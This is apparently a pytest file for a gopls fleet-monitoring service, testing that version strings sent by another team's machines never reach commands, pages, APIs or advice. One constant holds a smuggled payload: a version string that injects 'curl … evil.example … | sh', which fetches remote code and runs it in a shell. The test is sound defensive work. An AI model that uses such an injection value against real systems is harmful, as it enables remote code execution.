"""#11.4: agent text never becomes a command. Three machines of another team report a gopls
version carrying a shell payload over real HTTP; nothing anyone sees shows that text."""

from __future__ import annotations

import json
import urllib.request
from datetime import datetime, timedelta, timezone

import pytest

from apps.anomalies.detectors.fleet import PeerSample, gopls_version_regression
from apps.anomalies.evaluation import evaluate_fleet
from apps.anomalies.models import Finding
from apps.anomalies.thresholds import thresholds
from apps.fleet.models import GoplsProcess, Membership
from tests.factories import enroll, iso, make_report

EVIL = "v0.16.1;curl -s https://evil.example/x|sh;#"
PROJECT = "example.com/shared/monorepo"
GIB = 2**30


@pytest.fixture(autouse=True)
def _no_rate_limit(settings):
    settings.INGEST_RATE_PER_MINUTE = 1e6
    settings.INGEST_BURST = 1e6


def _report(version: str, rss: int, at: datetime) -> dict:
    report = make_report(8, start=at - timedelta(minutes=4), step_s=30, sent_at=at)
    start = iso(at - timedelta(hours=2))
    for s in report["samples"]:
        g = s["gopls"][0]
        g.update(version=version, rss_bytes=rss, start_time=start)
        g["projects"] = [{"module": PROJECT, "root": "/home/dev/src/monorepo"}]
    return report


def _post(url: str, credential: str, body: dict) -> tuple[int, bytes]:
    request = urllib.request.Request(
        url,
        data=json.dumps(body).encode(),
        headers={"Authorization": f"Bearer {credential}", "Content-Type": "application/json"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def test_the_regression_rule_never_ranks_or_names_an_unparsable_version():
    peers = [PeerSample(f"v{i}", PROJECT, "v0.16.0", 1 * GIB) for i in range(3)]
    peers += [PeerSample(f"e{i}", PROJECT, EVIL, 6 * GIB) for i in range(3)]
    assert gopls_version_regression(peers, thresholds()) == {}
    peers += [PeerSample(f"n{i}", PROJECT, "v0.17.0", 3 * GIB) for i in range(3)]
    out = gopls_version_regression(peers, thresholds())
    assert set(out) == {"n0", "n1", "n2"}
    for detections in out.values():
        for det in detections:
            assert det.facts["old_version"] == "v0.16.0"
            assert "evil" not in repr(det)


@pytest.mark.django_db(transaction=True)
def test_another_teams_hostile_version_reaches_no_page_api_or_advice(
    live_server, client, bob, alice
):
    now = datetime.now(timezone.utc).replace(microsecond=0)
    victims = [enroll("Victims") for _ in range(3)]
    attackers = [enroll("Attackers") for _ in range(3)]
    newer = [enroll("Victims") for _ in range(3)]
    Membership.objects.update_or_create(
        user=bob, team=victims[0][0].team, defaults={"role": "lead"}
    )
    url = f"{live_server.url}/api/v1/reports"
    for _machine, credential in victims:
        assert _post(url, credential, _report("v0.16.0", 1 * GIB, now))[0] in (200, 202)
    for _machine, credential in newer:
        assert _post(url, credential, _report("v0.17.0", 3 * GIB, now))[0] in (200, 202)
    check = f"{live_server.url}/api/v1/check"
    for _machine, credential in attackers:
        status, body = _post(url, credential, _report(EVIL, 6 * GIB, now))
        assert status in (200, 202)
        assert b"evil.example" not in body
        # The agent's own check echoes nothing of it either.
        status, body = _post(check, credential, _report(EVIL, 6 * GIB, now))
        assert status == 200
        assert b"evil.example" not in body
    assert not GoplsProcess.objects.filter(version__contains="evil").exists()

    evaluate_fleet(now + timedelta(seconds=5))
    # The legitimate regression (v0.16.0 → v0.17.0) is found, with a pin command built from
    # the strict version only.
    regression = Finding.objects.filter(rule_id="gopls_version_regression")
    assert regression.exists()
    for finding in Finding.objects.all():
        assert "evil.example" not in json.dumps([finding.summary, finding.evidence, finding.advice])
    commands = [s["command"] for f in regression for s in f.advice["steps"] if s["command"]]
    assert "go install golang.org/x/tools/gopls@v0.16.0" in commands

    pages = ["/", "/versions/", "/machines/", "/findings/", "/projects/", "/me/"]
    pages += [f"/machines/{m.machine_id}/" for m, _ in victims + newer]
    apis = ["/api/v1/findings/?state=all", "/api/v1/machines/"]
    apis += [f"/api/v1/machines/{m.machine_id}/" for m, _ in victims]
    for user in (bob, alice):
        client.force_login(user)
        for path in pages + apis:
            response = client.get(path)
            assert response.status_code in (200, 404), path
            assert b"evil.example" not in response.content, (user.username, path)
    client.force_login(alice)
    for machine, _ in attackers:
        page = client.get(f"/machines/{machine.machine_id}/")
        assert page.status_code == 200
        assert b"evil.example" not in page.content
